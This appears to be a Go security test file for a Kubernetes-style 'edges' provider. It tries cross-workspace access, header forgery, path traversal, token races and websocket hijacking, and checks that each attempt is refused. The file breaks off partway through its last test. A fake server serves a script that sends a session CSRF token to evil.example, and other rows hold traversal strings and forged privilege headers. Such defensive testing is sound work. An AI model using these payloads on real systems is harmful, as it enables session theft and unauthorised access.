package edges

import (
	"crypto/rand"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"github.com/wharfhub/wharf/test/testutil"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/gorilla/websocket"

	"github.com/wharfhub/wharf/providers/edges/apis/v1alpha1"
	"github.com/wharfhub/wharf/providers/edges/protocol"
	"github.com/wharfhub/wharf/test/sshd"
)

// TestEdgeAttacks is the edges provider's attack table: every row is one
// attempt by an outside tester (a workspace admin, since every person is
// admin of their home) to break workspace isolation or one of the edges'
// security promises (README "Edges"; providers/edges package doc). A row
// passes when the system gives the safe answer.
//
// The "edge clusters" here are recording HTTP servers (one per edge) that
// stand in for the edge API server: they show exactly what the agent sends
// (identity headers, credentials), and which edge a request reached.
func TestEdgeAttacks(t *testing.T) {
	s := newAttackEnv(t)
	for _, r := range attackRows {
		t.Run(r.id, func(t *testing.T) {
			t.Logf("tried: %s; safe answer: %s", r.tried, r.want)
			r.fn(t, s)
		})
	}
}

type attackRow struct {
	id, tried, want string
	fn              func(*testing.T, *attackEnv)
}

// edgeRecorder is a fake edge API server: it answers every request with
// its own tag and keeps the headers it received.
type edgeRecorder struct {
	tag string
	srv *httptest.Server
	mu  sync.Mutex
	got []http.Header
}

func startRecorder(t *testing.T, tag string) *edgeRecorder {
	r := &edgeRecorder{tag: tag}
	r.srv = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		h := req.Header.Clone()
		h.Set("X-Test-Path", req.URL.Path)
		r.got = append(r.got, h)
		r.mu.Unlock()
		if strings.HasSuffix(req.URL.Path, "/html") {
			// What any pod can serve through the edge API server's
			// services/proxy subresource.
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			fmt.Fprint(w, `<html><script>fetch("/auth/session").then(r => r.json()).then(s => fetch("https://evil.example/?csrf=" + s.csrfToken))</script></html>`)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("Set-Cookie", "__Host-wharf_session=planted; Path=/; Secure")
		fmt.Fprintf(w, `{"edge":%q}`, r.tag)
	}))
	t.Cleanup(r.srv.Close)
	return r
}

func (r *edgeRecorder) count() int {
	r.mu.Lock()
	defer r.mu.Unlock()
	return len(r.got)
}

func (r *edgeRecorder) last(t *testing.T) http.Header {
	t.Helper()
	r.mu.Lock()
	defer r.mu.Unlock()
	if len(r.got) == 0 {
		t.Fatalf("edge %s received nothing", r.tag)
	}
	return r.got[len(r.got)-1]
}

// kubeconfig is the agent's kubeconfig for this fake edge cluster.
func (r *edgeRecorder) kubeconfig(t *testing.T) string {
	p := filepath.Join(t.TempDir(), r.tag+".kubeconfig")
	kc := fmt.Sprintf(`apiVersion: v1
kind: Config
clusters: [{name: fake, cluster: {server: %q, certificate-authority-data: %s}}]
users: [{name: agent, user: {token: edge-agent-secret-%s}}]
contexts: [{name: c, context: {cluster: fake, user: agent}}]
current-context: c
`, r.srv.URL, base64.StdEncoding.EncodeToString(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: r.srv.Certificate().Raw})), r.tag)
	if err := os.WriteFile(p, []byte(kc), 0o600); err != nil {
		t.Fatal(err)
	}
	return p
}

type attackEnv struct {
	*env
	labRec, carolRec *edgeRecorder
	labAgent         *agentProc
	carolAgent       *agentProc
	plainID          string // a workspace that did not enable edges
	carolSAToken     string // a service account of carolws, admin there
}

const (
	atkEdge  = "atk-k8s"   // in lab and, same name, in carolws
	atkSrv   = "atk-srv"   // a lab server edge with no agent
	atkSpare = "atk-spare" // a lab kubernetes edge for join attempts
)

func newAttackEnv(t *testing.T) *attackEnv {
	t.Helper()
	h := startHub(t, hubOptions{providerDir: writeProviderDir(t), configFile: writeConfig(t)})
	e := &env{hub: h}
	e.caFile = filepath.Join(t.TempDir(), "hub-ca.crt")
	if err := os.WriteFile(e.caFile, h.CA, 0o600); err != nil {
		t.Fatal(err)
	}
	e.labID = h.createWorkspace(labWorkspace, protocol.ProviderName)
	e.carolID = h.createWorkspace(carolWorkspace, protocol.ProviderName)
	h.mustApply("root:"+labWorkspace, edgeUserRBAC, "apply")
	h.grantAdmin(carolWorkspace, "carol")
	for _, ws := range []string{labWorkspace, carolWorkspace} {
		eventually(t, 2*time.Minute, func() error {
			if out, err := h.kubectl("root:"+ws, "get", "edges"); err != nil {
				return fmt.Errorf("%v: %s", err, out)
			}
			return nil
		})
	}
	s := &attackEnv{env: e, labRec: startRecorder(t, "lab"), carolRec: startRecorder(t, "carol")}
	s.plainID = h.createWorkspace("plain")
	s.labAgent, _, _ = e.connectEdgeIn(t, labWorkspace, e.labID, atkEdge, v1alpha1.TypeKubernetes, agentOptions{kubeconfig: s.labRec.kubeconfig(t)})
	s.carolAgent, _, _ = e.connectEdgeIn(t, carolWorkspace, e.carolID, atkEdge, v1alpha1.TypeKubernetes, agentOptions{kubeconfig: s.carolRec.kubeconfig(t)})
	e.createEdge(t, labWorkspace, atkSrv, v1alpha1.TypeServer)
	e.createEdge(t, labWorkspace, atkSpare, v1alpha1.TypeKubernetes)
	// carol's own service account, admin of carolws (carol could do this
	// herself; the admin does it to save a login).
	h.mustKubectl("root:"+carolWorkspace, "create", "namespace", "atk")
	h.mustKubectl("root:"+carolWorkspace, "create", "serviceaccount", "robot", "-n", "atk")
	h.mustKubectl("root:"+carolWorkspace, "create", "clusterrolebinding", "robot-admin", "--clusterrole", "ws-admin", "--serviceaccount", "atk:robot")
	s.carolSAToken = strings.TrimSpace(h.mustKubectl("root:"+carolWorkspace, "create", "token", "robot", "-n", "atk"))
	return s
}

func (s *attackEnv) egressPath(cluster, name, sub string) string {
	return protocol.BackendPrefix + protocol.EgressBase(cluster, name) + sub
}

// call sends one request to the hub with token and extra headers.
func (s *attackEnv) call(token, method, path string, hdr http.Header) (int, string) {
	h := http.Header{"Accept": {"application/json"}}
	for k, v := range hdr {
		h[k] = v
	}
	return s.hub.do(token, method, path, "", h)
}

func (s *attackEnv) wsDial(t *testing.T, path string, hdr http.Header) int {
	t.Helper()
	d := websocket.Dialer{TLSClientConfig: s.hub.tlsConfig(), HandshakeTimeout: 30 * time.Second}
	c, resp, err := d.Dial("wss"+strings.TrimPrefix(s.hub.URL, "https")+path, hdr)
	if err == nil {
		c.Close()
		return http.StatusSwitchingProtocols
	}
	if resp == nil {
		t.Fatalf("websocket to %s: %v", path, err)
	}
	return resp.StatusCode
}

// kubectlTok runs kubectl in root:<ws> as the holder of token.
func (s *attackEnv) kubectlTok(t *testing.T, token, ws string, args ...string) (string, error) {
	dir := t.TempDir()
	empty := filepath.Join(dir, "empty.kubeconfig")
	if err := os.WriteFile(empty, nil, 0o600); err != nil {
		t.Fatal(err)
	}
	full := append([]string{"--kubeconfig", empty, "--server", s.hub.URL + "/clusters/root:" + ws, "--token", token, "--certificate-authority", s.caFile}, args...)
	return runKubectl(s.hub.kubectlBin, dir, "", full...)
}

func randomToken() string {
	b := make([]byte, 32)
	_, _ = rand.Read(b)
	return base64.RawURLEncoding.EncodeToString(b)
}

func wantCode(t *testing.T, what string, code int, body string, want ...int) {
	t.Helper()
	for _, w := range want {
		if code == w {
			return
		}
	}
	t.Errorf("%s: %d %s, want %v", what, code, testutil.Tail(body, 5), want)
}

// mintAsAdmin mints a lab join token for name as the hub admin.
func (s *attackEnv) mintAsAdmin(t *testing.T, name string) string {
	t.Helper()
	code, tok, body := s.mintToken(t, s.hub.Token, s.labID, labWorkspace, name)
	if code != http.StatusOK || tok.Token == "" {
		t.Fatalf("minting a token for %s: %d %s", name, code, body)
	}
	return tok.Token
}

func (s *attackEnv) joinCredential(t *testing.T, cluster, name, token string) string {
	t.Helper()
	code, body := s.join(t, cluster, name, token)
	if code != http.StatusOK {
		t.Fatalf("join %s: %d %s", name, code, body)
	}
	var jr protocol.JoinResponse
	if err := json.Unmarshal([]byte(body), &jr); err != nil || jr.Credential == "" {
		t.Fatalf("join answer %q: %v", body, err)
	}
	return jr.Credential
}

var attackRows = []attackRow{
	{"E01-sanity-alice-reaches-lab-edge", "alice (proxy in lab) GETs lab's atk-k8s egress", "200 from the lab edge (so refusals below are refusals)", func(t *testing.T, s *attackEnv) {
		code, body := s.call(aliceToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), nil)
		if code != 200 || !strings.Contains(body, `"lab"`) {
			t.Fatalf("alice: %d %s", code, body)
		}
	}},
	{"E02-carol-lab-edge-by-id", "carol (admin of carolws) GETs lab's edge by lab's cluster id, home header carolws", "403, lab edge untouched", func(t *testing.T, s *attackEnv) {
		n := s.labRec.count()
		code, body := s.call(carolToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), http.Header{"X-Wharf-Workspace": {"root:" + carolWorkspace}})
		wantCode(t, "carol on lab edge", code, body, 403)
		code, body = s.call(carolToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), nil)
		wantCode(t, "carol on lab edge, no workspace header (home)", code, body, 403)
		if s.labRec.count() != n {
			t.Errorf("the lab edge received carol's request")
		}
	}},
	{"E03-carol-lab-edge-with-lab-header", "carol names root:lab in X-Wharf-Workspace", "403", func(t *testing.T, s *attackEnv) {
		code, body := s.call(carolToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), http.Header{"X-Wharf-Workspace": {"root:" + labWorkspace}})
		wantCode(t, "carol with lab header", code, body, 403)
		code, body = s.call(carolToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), http.Header{"Cookie": {"__Host-wharf_workspace=root:" + labWorkspace}})
		wantCode(t, "carol with lab cookie", code, body, 403)
	}},
	{"E04-carol-lab-edge-by-path-name", "carol uses the workspace path root:lab as {cluster} instead of the id", "403 (never the lab edge)", func(t *testing.T, s *attackEnv) {
		n := s.labRec.count()
		for _, c := range []string{"root:" + labWorkspace, "root:" + carolWorkspace + ":..", s.labID + ":x"} {
			code, body := s.call(carolToken, "GET", s.egressPath(c, atkEdge, "/k8s/api"), http.Header{"X-Wharf-Workspace": {"root:" + carolWorkspace}})
			wantCode(t, "carol with cluster "+c, code, body, 403, 404)
		}
		if s.labRec.count() != n {
			t.Errorf("the lab edge received carol's request")
		}
	}},
	{"E05-carol-service-account-token", "a service account of carolws (admin there) on lab's edge", "403", func(t *testing.T, s *attackEnv) {
		code, body := s.call(s.carolSAToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), nil)
		wantCode(t, "carol's SA on lab edge", code, body, 403)
		code, body = s.call(s.carolSAToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), http.Header{"X-Wharf-Workspace": {"root:" + labWorkspace}})
		wantCode(t, "carol's SA on lab edge with lab header", code, body, 403)
	}},
	{"E06-impersonation-headers-at-hub", "carol sends Impersonate-User: alice (+ groups) to lab's egress; carol self-grants impersonate in carolws first", "403 (the provider routes never impersonate)", func(t *testing.T, s *attackEnv) {
		s.hub.mustApply("root:"+carolWorkspace, `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: carol-impersonate}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: ws-admin}
subjects: [{apiGroup: rbac.authorization.k8s.io, kind: User, name: carol}]
`, "apply")
		hdr := http.Header{"Impersonate-User": {"alice"}, "Impersonate-Group": {"devs"}, "X-Wharf-Workspace": {"root:" + carolWorkspace}}
		code, body := s.call(carolToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), hdr)
		wantCode(t, "carol impersonating alice", code, body, 403)
		// On her own edge the impersonation is ignored: she is carol there.
		code, body = s.call(carolToken, "GET", s.egressPath(s.carolID, atkEdge, "/k8s/api"), hdr)
		wantCode(t, "carol on her own edge", code, body, 200)
		if u := s.carolRec.last(t).Values("Impersonate-User"); len(u) != 1 || u[0] != "carol" {
			t.Errorf("carol's own edge saw Impersonate-User %v, want [carol]", u)
		}
	}},
	{"E07-missing-vs-forbidden", "carol probes a connected, an agentless, a server and a missing lab edge (k8s and ssh)", "byte-identical 403s but for the name", func(t *testing.T, s *attackEnv) {
		var first string
		for _, name := range []string{atkEdge, atkSpare, atkSrv, "atk-missing"} {
			code, body := s.call(carolToken, "GET", s.egressPath(s.labID, name, "/k8s/api"), nil)
			wantCode(t, "carol on "+name, code, body, 403)
			norm := strings.ReplaceAll(body, name, "<n>")
			if first == "" {
				first = norm
			} else if norm != first {
				t.Errorf("answers differ: %q vs %q", norm, first)
			}
			if c := s.wsDial(t, s.egressPath(s.labID, name, "/ssh"), http.Header{"Authorization": {"Bearer " + carolToken}}); c != 403 {
				t.Errorf("carol ssh on %s: %d", name, c)
			}
		}
	}},
	{"E08-namesake-edges-never-cross", "same edge name in lab and carolws; each user on each path", "lab path reaches lab's agent only; carol's path carol's only; alice refused on carol's", func(t *testing.T, s *attackEnv) {
		code, body := s.call(aliceToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), nil)
		if code != 200 || !strings.Contains(body, `"lab"`) {
			t.Errorf("alice on lab path: %d %s", code, body)
		}
		code, body = s.call(carolToken, "GET", s.egressPath(s.carolID, atkEdge, "/k8s/api"), nil)
		if code != 200 || !strings.Contains(body, `"carol"`) {
			t.Errorf("carol on carol path: %d %s", code, body)
		}
		code, body = s.call(aliceToken, "GET", s.egressPath(s.carolID, atkEdge, "/k8s/api"), http.Header{"X-Wharf-Workspace": {"root:" + labWorkspace}})
		wantCode(t, "alice on carol's namesake", code, body, 403)
		code, body = s.call(aliceToken, "GET", s.egressPath(s.carolID, atkEdge, "/k8s/api"), http.Header{"X-Wharf-Workspace": {"root:" + carolWorkspace}})
		wantCode(t, "alice naming carolws", code, body, 403)
	}},
	{"E09-bob-proxy-only-mints-nothing", "bob (get/proxy on lab edges, no update) and carol mint join tokens for lab edges", "403 for both", func(t *testing.T, s *attackEnv) {
		code, _, body := s.mintToken(t, bobToken, s.labID, labWorkspace, atkSpare)
		wantCode(t, "bob mints", code, body, 403)
		code, _, body = s.mintToken(t, carolToken, s.labID, carolWorkspace, atkSpare)
		wantCode(t, "carol mints for lab", code, body, 403)
		code, _, body = s.mintToken(t, s.carolSAToken, s.labID, carolWorkspace, atkSpare)
		wantCode(t, "carol's SA mints for lab", code, body, 403)
	}},
	{"H01-forged-identity-headers", "alice sends X-Wharf-Edge-User/Group, X_Wharf_Edge_User, Impersonate-*, X-Remote-*, X-Kedge-*, Connection naming them, Cookie, Proxy-Authorization", "the edge API server sees Impersonate-User alice, her non-system groups, the agent's own token only", func(t *testing.T, s *attackEnv) {
		hdr := http.Header{
			"X-Wharf-Edge-User":       {"mallory"},
			"X-Wharf-Edge-Group":      {"system:masters", "admins"},
			"X_wharf_edge_user":       {"mallory2"},
			"Impersonate-User":        {"system:admin"},
			"Impersonate-Group":       {"system:masters"},
			"Impersonate-Extra-Scope": {"all"},
			"X-Remote-User":           {"root"},
			"X-Remote-Group":          {"system:masters"},
			"X-Kedge-User":            {"admin"},
			"Connection":              {"X-Wharf-Edge-User, X-Wharf-Edge-Group, Impersonate-User"},
			"Cookie":                  {"__Host-wharf_session=stolen; other=1"},
			"Proxy-Authorization":     {"Basic Zm9vOmJhcg=="},
		}
		code, body := s.call(aliceToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api/v1/namespaces"), hdr)
		if code != 200 {
			t.Fatalf("alice with forged headers: %d %s", code, body)
		}
		got := s.labRec.last(t)
		if u := got.Values("Impersonate-User"); len(u) != 1 || u[0] != "alice" {
			t.Errorf("Impersonate-User %v, want [alice]", u)
		}
		for _, g := range got.Values("Impersonate-Group") {
			if strings.HasPrefix(g, "system:") || g == "admins" {
				t.Errorf("forged or system group reached the edge: %v", got.Values("Impersonate-Group"))
			}
		}
		if a := got.Values("Authorization"); len(a) != 1 || a[0] != "Bearer edge-agent-secret-lab" {
			t.Errorf("Authorization at the edge %v, want the agent's own", a)
		}
		for k := range got {
			lk := strings.ToLower(strings.ReplaceAll(k, "_", "-"))
			if lk == "cookie" || lk == "proxy-authorization" || strings.HasPrefix(lk, "x-wharf-") || strings.HasPrefix(lk, "x-kedge-") ||
				strings.HasPrefix(lk, "x-remote-") || strings.HasPrefix(lk, "impersonate-extra") || strings.HasPrefix(lk, "impersonate-uid") {
				t.Errorf("header %s: %v reached the edge", k, got[k])
			}
		}
		if strings.Contains(fmt.Sprint(got), aliceToken) {
			t.Errorf("alice's hub token reached the edge: %v", got)
		}
	}},
	{"H02-set-cookie-from-edge", "the edge answers Set-Cookie: __Host-wharf_session=planted", "the hub's client sees no Set-Cookie", func(t *testing.T, s *attackEnv) {
		req, _ := http.NewRequest("GET", s.hub.URL+s.egressPath(s.labID, atkEdge, "/k8s/api"), nil)
		req.Header.Set("Authorization", "Bearer "+aliceToken)
		resp, err := s.hub.client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if c := resp.Header.Values("Set-Cookie"); len(c) != 0 {
			t.Errorf("Set-Cookie from the edge reached the client: %v", c)
		}
	}},
	{"H03-service-account-as-edge-user", "carol's service account (proxy on her own edge) reaches her edge: would it be system:serviceaccount:... on the edge cluster?", "the agent refuses (403), the edge API server never sees a system: user", func(t *testing.T, s *attackEnv) {
		n := s.carolRec.count()
		code, body := s.call(s.carolSAToken, "GET", s.egressPath(s.carolID, atkEdge, "/k8s/api"), nil)
		wantCode(t, "SA through its own edge", code, body, 403)
		if s.carolRec.count() != n {
			t.Errorf("a system: user reached the edge API server: %v", s.carolRec.last(t).Values("Impersonate-User"))
		}
	}},
	{"H04-encoded-path-escape", "alice sends %2e%2e and %2f segments after /k8s to climb out of the edge path", "stays on the lab edge (or is refused); never another edge or the hub", func(t *testing.T, s *attackEnv) {
		nc := s.carolRec.count()
		for _, sub := range []string{"/k8s/%2e%2e/%2e%2e/" + atkSpare + "/k8s/api", "/k8s/..%2f..%2f..%2f" + s.carolID + "/api", "/k8s%2f..%2f..%2fedges%2f" + atkSpare + "/k8s/api"} {
			code, body := s.call(aliceToken, "GET", s.egressPath(s.labID, atkEdge, sub), nil)
			if code == 200 && !strings.Contains(body, `"lab"`) {
				t.Errorf("%s reached %s", sub, body)
			}
		}
		if s.carolRec.count() != nc {
			t.Errorf("carol's edge was reached from lab's path")
		}
	}},
	{"H05-edge-html-on-hub-origin", "an edge (run by a workspace admin, or any pod behind its API server's services/proxy) answers text/html with a script; a member opens the egress URL in a browser (cookie session)", "the hub's answer cannot run script on the hub's origin: Content-Security-Policy sandbox (and nosniff)", func(t *testing.T, s *attackEnv) {
		req, _ := http.NewRequest("GET", s.hub.URL+s.egressPath(s.carolID, atkEdge, "/k8s/api/v1/namespaces/default/services/web/proxy/html"), nil)
		req.Header.Set("Authorization", "Bearer "+carolToken)
		resp, err := s.hub.client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 200 || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/html") {
			t.Fatalf("the edge's page: %d %v", resp.StatusCode, resp.Header)
		}
		csp := strings.ToLower(resp.Header.Get("Content-Security-Policy"))
		if !strings.Contains(csp, "sandbox") || strings.Contains(csp, "allow-same-origin") || strings.Contains(csp, "allow-scripts") {
			t.Errorf("an edge's HTML is served on the hub's origin with Content-Security-Policy %q: its script runs as the hub (same-origin fetch of /auth/session, the CSRF token, then any API call with the victim's session)", csp)
		}
		if resp.Header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("X-Content-Type-Options %q, want nosniff", resp.Header.Get("X-Content-Type-Options"))
		}
	}},
	{"J01-join-token-not-in-objects", "after minting, alice (get on lab edges) reads the Edge yaml and events; the token is in none", "only its hash is stored", func(t *testing.T, s *attackEnv) {
		tok := s.mintAsAdmin(t, atkSpare)
		out, err := s.kubectlTok(t, aliceToken, labWorkspace, "get", "edges", "-o", "yaml")
		if err != nil {
			t.Fatalf("alice get edges: %v %s", err, out)
		}
		ev, _ := s.hub.kubectl("root:"+labWorkspace, "get", "events", "-A", "-o", "yaml")
		for where, hay := range map[string]string{"edges yaml": out, "events": ev, "hub log": s.hub.log.String()} {
			if strings.Contains(hay, tok) {
				t.Errorf("the join token appears in %s", where)
			}
		}
	}},
	{"J02-join-token-on-namesake-path", "a join token minted for lab's atk-spare presented at carolws/atk-spare and lab/atk-k8s", "401 on both, token still good for its own edge", func(t *testing.T, s *attackEnv) {
		s.createEdge(t, carolWorkspace, atkSpare, v1alpha1.TypeKubernetes)
		tok := s.mintAsAdmin(t, atkSpare)
		code, body := s.join(t, s.carolID, atkSpare, tok)
		wantCode(t, "lab token on carol's namesake", code, body, 401)
		code, body = s.join(t, s.labID, atkEdge, tok)
		wantCode(t, "lab token on another lab edge", code, body, 401)
		_ = s.joinCredential(t, s.labID, atkSpare, tok)
	}},
	{"J03-join-race", "20 concurrent joins with one fresh token", "exactly one credential", func(t *testing.T, s *attackEnv) {
		tok := s.mintAsAdmin(t, atkSpare)
		var ok, other atomic.Int32
		var wg sync.WaitGroup
		for i := 0; i < 20; i++ {
			wg.Add(1)
			go func() {
				defer wg.Done()
				code, _ := s.join(t, s.labID, atkSpare, tok)
				switch code {
				case 200:
					ok.Add(1)
				case 401, 503:
				default:
					other.Add(1)
				}
			}()
		}
		wg.Wait()
		if ok.Load() != 1 || other.Load() != 0 {
			t.Errorf("%d joins succeeded (%d odd answers), want exactly 1", ok.Load(), other.Load())
		}
	}},
	{"J04-join-refusals-alike", "wrong token on an existing edge, a missing edge, a workspace without edges, an unknown cluster, a malformed cluster", "the same 401 body for all", func(t *testing.T, s *attackEnv) {
		var first string
		for _, c := range []struct{ cluster, name string }{
			{s.labID, atkSpare}, {s.labID, "atk-missing"}, {s.plainID, atkSpare}, {"zz9plural", atkSpare}, {"UPPER", atkSpare}, {"root", atkSpare},
		} {
			code, body := s.join(t, c.cluster, c.name, "wharf-join-"+randomToken())
			if code != 401 {
				t.Errorf("join %s/%s: %d %s", c.cluster, c.name, code, body)
				continue
			}
			if first == "" {
				first = body
			} else if body != first {
				t.Errorf("join %s/%s: %q differs from %q", c.cluster, c.name, body, first)
			}
		}
	}},
	{"J05-token-outlives-edge", "a join token minted for atk-spare, then the Edge deleted and recreated under the same name", "401 for the new Edge", func(t *testing.T, s *attackEnv) {
		tok := s.mintAsAdmin(t, atkSpare)
		s.hub.mustKubectl("root:"+labWorkspace, "delete", "edge", atkSpare, "--wait=true")
		s.createEdge(t, labWorkspace, atkSpare, v1alpha1.TypeKubernetes)
		code, body := s.join(t, s.labID, atkSpare, tok)
		wantCode(t, "old token on the recreated edge", code, body, 401)
	}},
	{"C01-credential-scope", "an agent credential of lab's atk-spare used on carol's namesake, on lab's atk-k8s (connected), as a hub bearer token at the egress and the hub API, and as a join token", "401 everywhere; lab's connected tunnel untouched", func(t *testing.T, s *attackEnv) {
		cred := s.joinCredential(t, s.labID, atkSpare, s.mintAsAdmin(t, atkSpare))
		if c := s.controlDial(t, s.carolID, atkSpare, cred); c != 401 {
			t.Errorf("lab credential on carol's namesake: %d", c)
		}
		if c := s.controlDial(t, s.labID, atkEdge, cred); c != 401 {
			t.Errorf("atk-spare's credential on atk-k8s: %d", c)
		}
		code, body := s.call(cred, "GET", s.egressPath(s.labID, atkSpare, "/k8s/api"), nil)
		wantCode(t, "credential at egress", code, body, 401)
		code, body = s.call(cred, "GET", "/api", nil)
		wantCode(t, "credential at hub API", code, body, 401)
		code, body = s.join(t, s.labID, atkSpare, cred)
		wantCode(t, "credential as join token", code, body, 401)
		code, body = s.call(aliceToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), nil)
		if code != 200 || !strings.Contains(body, `"lab"`) {
			t.Errorf("lab edge after the attempts: %d %s", code, body)
		}
	}},
	{"C02-carol-credential-on-lab-path", "carol's own agent credential (namesake atk-k8s) dials lab's atk-k8s control path to replace the tunnel", "401; lab traffic still reaches lab's agent", func(t *testing.T, s *attackEnv) {
		cred, _ := savedCredential(t, s.carolAgent.StateDir)
		if c := s.controlDial(t, s.labID, atkEdge, cred); c != 401 {
			t.Errorf("carol's credential on lab path: %d", c)
		}
		code, body := s.call(aliceToken, "GET", s.egressPath(s.labID, atkEdge, "/k8s/api"), nil)
		if code != 200 || !strings.Contains(body, `"lab"`) {
			t.Errorf("lab edge: %d %s", code, body)
		}
	}},
	{"C03-annotation-write-on-namesake", "carol writes credential-sha256 = sha256(X) on her own atk-spare, then presents X on lab's atk-spare", "401 on lab's path (her write only enrols her own edge)", func(t *testing.T, s *attackEnv) {
		x := randomToken()
		hash := hashOf(x)
		if out, err := s.kubectlTok(t, carolToken, carolWorkspace, "annotate", "--overwrite", "edge", atkSpare, "edges.wharf.dev/credential-sha256="+hash); err != nil {
			t.Fatalf("carol annotates her edge: %v %s", err, out)
		}
		if c := s.controlDial(t, s.labID, atkSpare, x); c != 401 {
			t.Errorf("carol's chosen credential on lab's edge: %d", c)
		}
	}},
	{"C04-replaced-and-deleted-credential", "the credential of an earlier join after a new join; a credential after its Edge is deleted and recreated", "401", func(t *testing.T, s *attackEnv) {
		old := s.joinCredential(t, s.labID, atkSpare, s.mintAsAdmin(t, atkSpare))
		cur := s.joinCredential(t, s.labID, atkSpare, s.mintAsAdmin(t, atkSpare))
		if c := s.controlDial(t, s.labID, atkSpare, old); c != 401 {
			t.Errorf("replaced credential: %d", c)
		}
		s.hub.mustKubectl("root:"+labWorkspace, "delete", "edge", atkSpare, "--wait=true")
		s.createEdge(t, labWorkspace, atkSpare, v1alpha1.TypeKubernetes)
		if c := s.controlDial(t, s.labID, atkSpare, cur); c != 401 {
			t.Errorf("credential of the deleted edge on its namesake successor: %d", c)
		}
	}},
	{"P01-pickup-guess", "random and empty revdial pickup tokens, as websocket and plain GET, anonymous and with carol's token", "never 101", func(t *testing.T, s *attackEnv) {
		for _, tok := range []string{randomToken(), "", "..", strings.Repeat("A", 4096)} {
			p := protocol.BackendPrefix + protocol.PickupPrefix + tok
			for _, h := range []http.Header{nil, {"Authorization": {"Bearer " + carolToken}}} {
				if c := s.wsDial(t, p, h); c == http.StatusSwitchingProtocols || c < 400 {
					t.Errorf("pickup %q: %d", tok[:min(len(tok), 10)], c)
				}
			}
			code, body := s.call("", "GET", p, nil)
			if code < 400 {
				t.Errorf("plain GET pickup: %d %s", code, body)
			}
		}
	}},
	{"M01-metrics-non-admin", "carol (admin of carolws) and alice GET the provider's /metrics, with and without X-Wharf-Workspace", "403 (hub admins only)", func(t *testing.T, s *attackEnv) {
		p := protocol.BackendPrefix + "/metrics"
		for _, c := range []struct {
			tok string
			hdr http.Header
		}{
			{carolToken, nil}, {carolToken, http.Header{"X-Wharf-Workspace": {"root:" + carolWorkspace}}}, {carolToken, http.Header{"X-Wharf-Workspace": {"root"}}},
			{aliceToken, http.Header{"X-Wharf-Workspace": {"root:" + labWorkspace}}}, {s.carolSAToken, nil},
		} {
			code, body := s.call(c.tok, "GET", p, c.hdr)
			wantCode(t, fmt.Sprintf("metrics %v", c.hdr), code, body, 403)
		}
		for _, other := range []string{"/debug/pprof/", "/statusz", "/healthz", "/agent/", "/edgeproxy/", "/edgeproxy/clusters/" + s.labID + "/"} {
			code, body := s.call(carolToken, "GET", protocol.BackendPrefix+other, nil)
			if code == 200 || code/100 == 5 {
				t.Errorf("carol GET %s: %d %s", other, code, testutil.Tail(body, 3))
			}
		}
		code, body := s.call(s.hub.Token, "GET", p, http.Header{"X-Wharf-Workspace": {"root"}})
		wantCode(t, "metrics as hub admin", code, body, 200)
	}},
	{"W01-cswsh-ssh", "alice's ssh websocket with Origin https://evil.example (and null, and the hub with another port)", "403 before anything; same-origin gets past it", func(t *testing.T, s *attackEnv) {
		p := s.egressPath(s.labID, atkSrv, "/ssh")
		for _, o := range []string{"https://evil.example", "null", "https://127.0.0.1:1"} {
			if c := s.wsDial(t, p, http.Header{"Authorization": {"Bearer " + aliceToken}, "Origin": {o}}); c != 403 {
				t.Errorf("Origin %s: %d", o, c)
			}
		}
		if c := s.wsDial(t, p, http.Header{"Authorization": {"Bearer " + aliceToken}, "Origin": {"https://evil.example"}, "X-Forwarded-Host": {"evil.example"}}); c != 403 {
			t.Errorf("Origin evil with a forged X-Forwarded-Host: %d", c)
		}
		if c := s.wsDial(t, p, http.Header{"Authorization": {"Bearer " + aliceToken}, "Origin": {s.hub.URL}}); c != 503 {
			t.Errorf("same origin: %d, want 503 (not connected)", c)
		}
	}},
	{"S01-status-url-redirect", "carol writes status.URL (and phase Ready) of her connected edge and of her agentless one to https://evil.example (status subresource)", "the provider restores its own URL and the phase it observes (not Ready for the agentless one) within a minute", func(t *testing.T, s *attackEnv) {
		for _, name := range []string{atkEdge, atkSpare} {
			out, err := s.kubectlTok(t, carolToken, carolWorkspace, "patch", "edge", name, "--subresource=status", "--type=merge", "-p", `{"status":{"URL":"https://evil.example/k8s","phase":"Ready"}}`)
			t.Logf("patch %s: %v %s", name, err, out)
		}
		for name, ready := range map[string]bool{atkEdge: true, atkSpare: false} {
			want := s.hub.URL + s.egressPath(s.carolID, name, "/k8s")
			eventually(t, time.Minute, func() error {
				ed, err := s.getEdge(t, carolWorkspace, name)
				if err != nil {
					return err
				}
				if ed.Status.URL != want || (ed.Status.Phase == v1alpha1.PhaseReady) != ready {
					return fmt.Errorf("%s: status.URL %q phase %q", name, ed.Status.URL, ed.Status.Phase)
				}
				return nil
			})
		}
	}},
	{"S02-ssh-host-key-planted-agentless", "a workspace admin writes status.sshHostKey of an agentless server edge (atk-srv) to a key of their choosing, then alice opens its ssh egress", "no session can use it: the egress answers 503 (no tunnel); see S03 for the connected case", func(t *testing.T, s *attackEnv) {
